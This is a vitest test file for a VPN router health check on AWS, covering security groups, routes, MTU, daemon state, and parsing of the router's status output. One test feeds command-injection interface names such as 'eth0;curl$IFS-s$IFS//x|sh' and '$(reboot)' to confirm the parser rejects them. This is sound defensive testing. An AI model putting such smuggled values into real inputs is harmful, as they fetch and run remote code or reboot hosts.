import { describe, expect, it } from 'vitest';
import type { GroupRule, SeenInstance, SeenSurroundings } from '../../../functions/domain/model/seen-instance.ts';
import { CheckCode } from '../../../functions/domain/router-check/check-finding.ts';
import { type Evidence, RouterCheck, routerCheckOf } from '../../../functions/domain/router-check/router-check.ts';
import { inspectEnd, inspectMark, type RouterState, routerStateOf } from '../../../functions/domain/router-check/router-state.ts';
import { aVpc, idOf, start } from '../../support/builders.ts';
import { goldenPage } from '../../support/golden-page.ts';

const now = start.getTime();
const state: RouterState = {
	time: now / 1_000,
	system: 'Debian GNU/Linux 12 (bookworm)',
	lacking: [],
	aws: true,
	region: 'eu-central-1',
	key: 'read',
	daemon: { flavor: 'libreswan', version: '4.10' },
	running: true,
	atBoot: 'enabled',
	timer: 'systemd',
	healing: '-',
	kernel: [],
	forwarding: true,
	strict: [],
	redirects: [],
	wan: { name: 'ens5', mtu: 1_500 },
	addresses: ['10.1.0.10'],
};
const everything: GroupRule = { protocol: '-1', cidrs: ['0.0.0.0/0'], others: [] };
const place: NonNullable<SeenInstance['interface']> = {
	id: 'eni-1',
	sourceDestCheck: false,
	addresses: [{ privateIp: '10.1.0.10', publicIp: '192.0.2.1' }],
	groups: [{ id: 'sg-1', inbound: [everything], outbound: [everything] }],
	subnetTable: { id: 'rtb-1', tags: {}, routes: [{ cidr: '0.0.0.0/0', target: 'igw-1', propagated: false }] },
	acl: {
		id: 'acl-1',
		rules: [true, false].map((egress) => ({ number: 100, egress, allow: true, protocol: '-1', cidr: '0.0.0.0/0' })),
	},
};
const vpc = aVpc();
const instance: SeenInstance = { state: 'running', vpcId: vpc.id, tags: { 's2s:router': 'true' }, interface: place };

const evidence = (over: Partial<Evidence> = {}): Evidence => ({
	now: start,
	vpc,
	publicIp: '192.0.2.1',
	asked: { from: now, until: now + 2_000, accountId: 'acme', key: { name: '/s2s/dev/acme/cgw-1', customerGatewayId: 'cgw-1' } },
	router: state,
	ec2: { instance, tables: [] },
	...over,
});
const wrongOf = (over: Partial<Evidence>) => routerCheckOf(evidence(over)).checks.filter(({ ok }) => !ok);
const around = (over: Partial<typeof place>): SeenSurroundings => ({
	instance: { ...instance, interface: { ...place, ...over } },
	tables: [],
});
const inbound = (...rules: GroupRule[]) => around({ groups: [{ id: 'sg-1', inbound: rules, outbound: [everything] }] });
const udp = (port: number, cidr: string): GroupRule => ({
	protocol: 'udp',
	ports: { from: port, to: port },
	cidrs: [cidr],
	others: [],
});

describe('the check of a router', () => {
	it('is ok where everything is, and has every code once, in order', () => {
		const made = routerCheckOf(evidence());

		expect(made.ok).toBe(true);
		expect(made.checks.map(({ code }) => code)).toEqual(CheckCode.options);
		expect(made.checks.filter(({ mend }) => mend !== undefined)).toEqual([]);
		expect(RouterCheck.parse(made)).toEqual(made);
	});

	const ofTheRouter: [CheckCode, string, Partial<RouterState>, string][] = [
		['tools', 'a tool that is missing', { lacking: ['flock', 'cmp'] }, 'it lacks flock, cmp'],
		['aws-cli', 'no aws', { aws: false }, 'no aws'],
		['key-access', 'no aws to try a key with', { key: 'no-aws' }, 'no aws'],
		['key-access', 'a key that is gone', { key: 'absent' }, 'no /s2s/dev/acme/cgw-1 in eu-central-1'],
		['key-access', 'no region', { key: 'failed You must specify a region. (exit 253)' }, 'specify a region'],
		['key-access', 'no credentials', { key: 'failed Unable to locate credentials (exit 253)' }, 'credentials'],
		['key-access', 'no right', { key: 'failed An error occurred (AccessDeniedException) (exit 254)' }, 'AccessDenied'],
		['key-access', 'no way to AWS', { key: 'failed it did not end in time or said nothing (exit 124)' }, 'exit 124'],
		['clock', 'a clock that is ahead', { time: now / 1_000 + 63 }, '61 s ahead of ours'],
		['clock', 'a clock that is behind', { time: now / 1_000 - 61 }, '61 s behind ours'],
		['clock', 'no clock', { time: Number.NaN }, 'no time'],
		['daemon', 'no daemon', { daemon: undefined }, 'no Openswan or Libreswan'],
		['daemon', 'an old Openswan', { daemon: { flavor: 'openswan', version: 'U2.6.37/K6.1' } }, 'older than 2.6.38'],
		['daemon', 'an old Libreswan', { daemon: { flavor: 'libreswan', version: '2.9' } }, 'older than 3'],
		['daemon-running', 'a daemon that is stopped', { running: false }, 'does not answer'],
		['daemon-at-boot', 'a daemon that is not enabled', { atBoot: 'disabled' }, 'disabled'],
		['daemon-at-boot', 'a daemon that is masked', { atBoot: 'masked' }, 'masked'],
		['timer', 'no timer', { timer: 'none' }, 'no systemd'],
		['timer', 'a timer that is off', { healing: '0' }, 'not active'],
		['kernel', 'a kernel without IPsec', { kernel: ['xfrm', 'raw'] }, 'xfrm, raw'],
		['ip-forward', 'no forwarding', { forwarding: false }, 'ip_forward is 0'],
		['rp-filter', 'strict filtering', { strict: ['ens5'] }, 'strict on ens5'],
		['redirects', 'redirects', { redirects: ['ens5', 'ens6'] }, 'ens5, ens6'],
		['mtu', 'jumbo frames', { wan: { name: 'ens5', mtu: 9_001 } }, '9001 on ens5'],
		['mtu', 'small packets', { wan: { name: 'ens5', mtu: 1_475 } }, '1475 on ens5'],
		['mtu', 'no route', { wan: undefined }, 'no route to the outside'],
	];
	it.each(ofTheRouter)('says %s, and nothing else, of %s', (code, _what, over, found) => {
		const wrong = wrongOf({ router: { ...state, ...over } });

		expect(wrong.map((one) => one.code)).toEqual([code]);
		expect(wrong[0]?.found).toContain(found);
		expect(wrong[0]?.mend).toMatch(/^[A-Z].*\.$/s);
	});

	it.each<[string, Partial<RouterState>]>([
		['a clock that differs by a minute', { time: now / 1_000 - 60 }],
		['the oldest Openswan', { daemon: { flavor: 'openswan', version: '2.6.38' } }],
		['a daemon of which nothing says who starts it', { atBoot: 'unknown' }],
		['a timer that runs heal', { healing: '1' }],
		['the smallest path that tunnels are made for', { wan: { name: 'ens5', mtu: 1_476 } }],
	])('finds nothing wrong with %s', (_what, over) => {
		expect(wrongOf({ router: { ...state, ...over } })).toEqual([]);
	});

	const ofEc2: [CheckCode, string, SeenSurroundings, string, Partial<Evidence>?][] = [
		['instance', 'a stopped instance', { instance: { ...instance, state: 'stopped' }, tables: [] }, 'is stopped'],
		['instance', 'an instance elsewhere', { instance: { ...instance, vpcId: 'vpc-2' }, tables: [] }, 'is in vpc-2'],
		['router-tag', 'another tag', { instance: { ...instance, tags: { 's2s:router': 'no' } }, tables: [] }, 's2s:router=no'],
		['source-dest-check', 'the check that is on', around({ sourceDestCheck: true }), 'eni-1'],
		['public-address', 'an address that is elsewhere', around({ addresses: [{ privateIp: '10.1.0.10' }] }), 'not associated'],
		[
			'public-address',
			'an address that leads to another one of its own',
			around({ addresses: [{ privateIp: '10.1.0.10' }, { privateIp: '10.1.0.11', publicIp: '192.0.2.1' }] }),
			'would take 10.1.0.10',
		],
		['default-route', 'no default route', around({ subnetTable: { id: 'rtb-1', tags: {}, routes: [] } }), 'no default route'],
		['default-route', 'no table', around({ subnetTable: undefined }), 'no route table'],
		[
			'security-group-ike',
			'IKE without NAT traversal',
			inbound(udp(500, '0.0.0.0/0'), { ...everything, protocol: '50' }, { ...everything, cidrs: ['10.1.0.0/16'] }),
			'from 192.0.2.2/32',
		],
		[
			'security-group-ike',
			'IKE of one peer where there is one that may be anywhere',
			inbound(
				udp(500, '192.0.2.2/32'),
				udp(4_500, '192.0.2.2/32'),
				{ ...everything, protocol: '50' },
				{ ...everything, cidrs: ['10.1.0.0/16'] },
			),
			'from 0.0.0.0/0',
			{ vpc: aVpc({ slots: { [idOf('vpnc', 1)]: { customerGatewayId: idOf('cgw', 1), peer: 'any', remoteCidrs: [] } } }) },
		],
		[
			'security-group-ike',
			'nobody’s IKE where there is no peer yet',
			inbound({ ...everything, protocol: '50' }, { ...everything, protocol: 'tcp' }),
			'lets nobody’s',
			{ vpc: aVpc({ slots: {} }) },
		],
		[
			'security-group-vpc',
			'no way in for hosts where IKE and ESP may come from anywhere',
			inbound(udp(500, '0.0.0.0/0'), udp(4_500, '0.0.0.0/0'), { ...everything, protocol: '50' }),
			'hosts of 10.1.1.0/24',
		],
		['instance', 'an instance in no VPC', { instance: { ...instance, vpcId: undefined }, tables: [] }, 'is in no VPC'],
		[
			'instance',
			'a terminated instance that EC2 still shows',
			{ instance: { ...instance, state: 'shutting-down' }, tables: [] },
			'is shutting-down',
		],
		[
			'security-group-vpc',
			'no way in for hosts of a VPC without a network in use',
			inbound(
				udp(500, '192.0.2.2/32'),
				udp(4_500, '192.0.2.2/32'),
				{ ...everything, protocol: '50' },
				{ ...everything, cidrs: ['10.1.1.0/24'] },
			),
			'hosts of 10.1.0.0/16',
			{ vpc: aVpc({ networks: [] }) },
		],
		[
			'security-group-ike',
			'IKE of another peer where ESP is left to a group',
			inbound(
				udp(500, '192.0.2.2/32'),
				{ ...everything, protocol: '50', others: ['sg-2'] },
				{ ...everything, cidrs: ['10.1.0.0/16'] },
			),
			'does not let UDP 4500 in',
		],
		[
			'security-group-esp',
			'the way in for ESP',
			inbound(udp(500, '192.0.2.2/32'), udp(4_500, '192.0.2.2/32'), { ...everything, cidrs: ['10.1.0.0/16'] }),
			'ESP (protocol 50)',
		],
		[
			'security-group-out',
			'no way out',
			around({ groups: [{ id: 'sg-1', inbound: [everything], outbound: [] }] }),
			'10.1.1.0/24',
		],
		['network-acl', 'no network ACL', around({ acl: undefined }), 'no network ACL'],
		[
			'route-tables',
			'a table that is gone',
			{ instance, tables: [{ id: 'rtb-00000001', tags: { 's2s:routes': 'true' }, routes: [] }] },
			'no rtb-00000002',
			{ vpc: aVpc({ routeTableIds: ['rtb-00000001', 'rtb-00000002'] }) },
		],
		[
			'route-tables',
			'a table without our tag',
			{ instance, tables: [{ id: 'rtb-00000001', tags: { 's2s:routes': 'no' }, routes: [] }] },
			'rtb-00000001 has no tag',
			{ vpc: aVpc({ routeTableIds: ['rtb-00000001'] }) },
		],
	];
	it.each(ofEc2)('says %s, and nothing else, of %s', (code, _what, ec2, found, over = {}) => {
		const wrong = wrongOf({ ec2, ...over });

		expect(wrong.map((one) => one.code)).toEqual([code]);
		expect(wrong[0]?.found).toContain(found);
		expect(wrong[0]?.mend).toMatch(/^[A-Z].*\.$/s);
	});

	const fine: [string, SeenSurroundings, Partial<Evidence>?][] = [
		[
			'a network that is not in use, whose hosts nobody lets in',
			inbound(
				udp(500, '192.0.2.2/32'),
				udp(4_500, '192.0.2.2/32'),
				{ ...everything, protocol: '50' },
				{ ...everything, cidrs: ['10.1.1.0/24'] },
			),
			{
				vpc: aVpc({
					networks: [
						{ id: 'a', cidr: '10.1.1.0/24', state: 'Implemented' },
						{ id: 'b', cidr: '10.1.2.0/24', state: 'Allocated' },
					],
				}),
			},
		],
		[
			'IKE of the peer, and NAT traversal of a group',
			inbound(
				udp(500, '192.0.2.2/32'),
				{ ...udp(4_500, '192.0.2.9/32'), others: ['sg-2'] },
				{ ...everything, protocol: '50' },
				{ ...everything, cidrs: ['10.1.0.0/16'] },
			),
		],
		[
			'hosts that may ping',
			inbound(
				udp(500, '192.0.2.2/32'),
				udp(4_500, '192.0.2.2/32'),
				{ ...everything, protocol: '50' },
				{ ...everything, protocol: 'icmp', cidrs: ['10.9.0.0/16', '10.1.0.0/16'] },
			),
		],
		['sources that are groups and prefix lists', inbound({ ...everything, cidrs: [], others: ['sg-2', 'pl-1'] })],
		[
			'peers and hosts alone',
			inbound(
				udp(500, '192.0.2.2/32'),
				udp(4_500, '192.0.2.0/24'),
				{ ...everything, protocol: '50' },
				{ ...everything, cidrs: ['10.1.1.0/24'] },
			),
		],
		['an interface that has the public address itself', around({ addresses: [{ privateIp: '192.0.2.1' }] })],
		[
			'a private address that the VPC names',
			around({ addresses: [{ privateIp: '10.1.0.10' }, { privateIp: '10.1.0.11', publicIp: '192.0.2.1' }] }),
			{ vpc: aVpc({ publicIps: [{ ip: '192.0.2.1', privateIp: '10.1.0.11', sourceNat: true }] }) },
		],
		[
			'anybody’s IKE where there is no peer yet',
			inbound({ ...everything, cidrs: ['192.0.2.9/32'] }, { ...everything, cidrs: ['10.1.0.0/16'] }),
			{ vpc: aVpc({ slots: {} }) },
		],
	];
	it.each(fine)('finds nothing wrong with %s', (_what, ec2, over = {}) => {
		expect(wrongOf({ ec2, ...over })).toEqual([]);
	});

	it('does not take what comes from within the VPC for that of a peer nobody knows yet', () => {
		const wrong = wrongOf({ ec2: inbound({ ...everything, cidrs: ['10.1.0.0/16'] }), vpc: aVpc({ slots: {} }) });

		expect(wrong.map(({ code }) => code)).toEqual(['security-group-ike', 'security-group-esp']);
	});

	it.each<[string, GroupRule, string]>([
		['everything', { ...everything, cidrs: ['10.1.0.0/16'] }, 'lets hosts of 10.1.1.0/24 in'],
		[
			'one port',
			{ ...everything, protocol: 'tcp', ports: { from: 443, to: 443 }, cidrs: ['10.1.1.0/24'] },
			'in with tcp 443 alone',
		],
		['DNS', udp(53, '10.1.0.0/16'), 'in with udp 53 alone'],
	])('tells what of hosts is let in: %s', (_what, rule, found) => {
		const { checks } = routerCheckOf(evidence({ ec2: inbound(rule) }));

		expect(checks.find(({ code }) => code === 'security-group-vpc')).toMatchObject({
			ok: true,
			found: expect.stringContaining(found),
		});
	});

	it('has words for each of them', async () => {
		const shown = (made: RouterCheck, codes: readonly CheckCode[] = CheckCode.options): string =>
			made.checks
				.filter(({ code }) => codes.includes(code))
				.map(({ code, found, mend }) => `${code}: ${found}${mend === undefined ? '' : `\n  ${mend}`}`)
				.join('\n');
		const page: [string, string][] = [
			['all is well', shown(routerCheckOf(evidence()))],
			[
				'all is well, before there is a connection',
				shown(
					routerCheckOf(
						evidence({
							router: { ...state, key: 'absent', region: '' },
							vpc: aVpc({ slots: {}, routeTableIds: ['rtb-1'] }),
							ec2: { instance, tables: [{ id: 'rtb-1', tags: { 's2s:routes': 'true' }, routes: [] }] },
							asked: { ...evidence().asked, key: { name: '/s2s/dev/acme/nobody' } },
						}),
					),
				),
			],
			...fine.map(([what, ec2, over = {}]): [string, string] => [
				what,
				shown(routerCheckOf(evidence({ ec2, ...over })), ['public-address', 'security-group-ike', 'security-group-vpc']),
			]),
			...ofTheRouter.map(([code, what, over]): [string, string] => [
				what,
				shown(routerCheckOf(evidence({ router: { ...state, ...over } })), [code]),
			]),
			...ofEc2.map(([code, what, ec2, , over = {}]): [string, string] => [
				what,
				shown(routerCheckOf(evidence({ ec2, ...over })), [code]),
			]),
			...(['not-managed', 'agent-too-old', 'throttled', 'unreachable'] as const).map((code): [string, string] => [
				`a router that is silent: ${code}`,
				shown(routerCheckOf(evidence({ router: { silence: { code, detail: 'why' } } })), ['agent', 'clock']),
			]),
			['EC2 that refuses', shown(routerCheckOf(evidence({ ec2: { refused: 'EC2 throttles our calls' } })), ['instance'])],
		];

		await expect(goldenPage(page)).toMatchFileSnapshot('../../golden/router-check.txt');
	});

	it('says what to mend first where the router or EC2 does not answer, and guesses nothing', () => {
		const silence = { code: 'not-managed', detail: 'it is not tagged s2s:router=true' } as const;
		const silent = routerCheckOf(evidence({ router: { silence } }));
		const refused = routerCheckOf(evidence({ ec2: { refused: 'EC2 throttles our calls' } }));
		const absent = routerCheckOf(evidence({ ec2: { instance: undefined, tables: [] } }));

		const of = ({ checks }: RouterCheck, code: CheckCode) => checks.find((one) => one.code === code);
		expect(of(silent, 'agent')).toMatchObject({ ok: false, found: silence.detail });
		expect(of(silent, 'clock')).toMatchObject({ ok: false, mend: expect.stringContaining('Mend agent first') });
		expect(of(silent, 'source-dest-check')?.ok).toBe(true);
		expect(of(refused, 'instance')).toMatchObject({ ok: false, found: expect.stringContaining('throttles') });
		expect(of(refused, 'clock')?.ok).toBe(true);
		expect(of(absent, 'instance')?.found).toContain('no instance');
		expect(of(absent, 'router-tag')).toMatchObject({ ok: false, mend: expect.stringContaining('Mend instance first') });
		expect([silent.ok, refused.ok, absent.ok]).toEqual([false, false, false]);
	});

	it('leaves out what is EC2’s of an instance that is none of EC2’s', () => {
		const codes = routerCheckOf(evidence({ ec2: undefined })).checks.map(({ code }) => code);

		expect(codes).toEqual(expect.arrayContaining(['agent', 'daemon', 'mtu']));
		expect(codes).not.toContain('instance');
		expect(codes).not.toContain('route-tables');
	});
});

describe('what a router prints of itself', () => {
	const lines = [
		'time 1763932000',
		'lacking flock cmp',
		'daemon openswan 2.6.51.5',
		'wan ens5 9001',
		'key failed "PSK 0sAbCdEf123456789012345="',
	];
	const text = (...some: string[]) => `${some.join('\n')}\n`;

	it('is read where it is whole, without what has the shape of a key', () => {
		expect(routerStateOf(text(inspectMark, ...lines, inspectEnd))).toMatchObject({
			time: 1_763_932_000,
			lacking: ['flock', 'cmp'],
			daemon: { flavor: 'openswan', version: '2.6.51.5' },
			wan: { name: 'ens5', mtu: 9_001 },
			running: false,
			key: expect.not.stringContaining('AbCdEf'),
		});
	});

	it('is all of it, with nothing taken for what is not said', () => {
		const whole = [
			'time 1',
			'system Debian  GNU/Linux',
			'lacking',
			'daemon libreswan 4.10',
			'running 1',
			'at-boot enabled',
			'timer systemd',
			'healing 1',
			'kernel  xfrm raw',
			'forwarding 1',
			'strict ens5',
			'redirects ens5 ens6',
			'wan ens5 1500',
			'addresses 10.1.0.10 10.1.0.11 ',
			'region eu-central-1',
			'aws 1',
			'key read',
			'unknown word',
		];

		expect(routerStateOf(text(inspectMark, ...whole, inspectEnd))).toEqual({
			time: 1,
			system: 'Debian  GNU/Linux',
			lacking: [],
			aws: true,
			region: 'eu-central-1',
			key: 'read',
			daemon: { flavor: 'libreswan', version: '4.10' },
			running: true,
			atBoot: 'enabled',
			timer: 'systemd',
			healing: '1',
			kernel: ['xfrm', 'raw'],
			forwarding: true,
			strict: ['ens5'],
			redirects: ['ens5', 'ens6'],
			wan: { name: 'ens5', mtu: 1_500 },
			addresses: ['10.1.0.10', '10.1.0.11'],
		});
		expect(routerStateOf(text(inspectMark, inspectEnd))).toEqual({
			time: 0,
			system: '',
			lacking: [],
			aws: false,
			region: '',
			key: '',
			daemon: undefined,
			running: false,
			atBoot: '',
			timer: '',
			healing: '',
			kernel: [],
			forwarding: false,
			strict: [],
			redirects: [],
			wan: undefined,
			addresses: [],
		});
	});

	it.each([
		['a flavour without a version', 'daemon libreswan'],
		['another flavour', 'daemon strongswan 5.9'],
	])('has no daemon with %s', (_what, line) => {
		expect(routerStateOf(text(inspectMark, line, inspectEnd))?.daemon).toBeUndefined();
	});

	it.each(['eth0;curl$IFS-s$IFS//x|sh', '$(reboot)', '`id`', 'eth0&', 'of-twenty-characters'])(
		'names no interface that a shell would take for more, since the mend of its MTU is a command: %s',
		(name) => {
			expect(routerStateOf(text(inspectMark, `wan ${name} 9001`, inspectEnd))?.wan).toBeUndefined();
		},
	);

	it('is cut where a line is endless', () => {
		expect(routerStateOf(text(inspectMark, `system ${'x y '.repeat(10_000)}`, inspectEnd))?.system).toHaveLength(400);
	});

	it.each([
		['its end', text(inspectMark, ...lines)],
		['its beginning', text(...lines, inspectEnd)],
		['anything', ''],
	])('is nothing without %s', (_what, cut) => {
		expect(routerStateOf(cut)).toBeUndefined();
	});
});
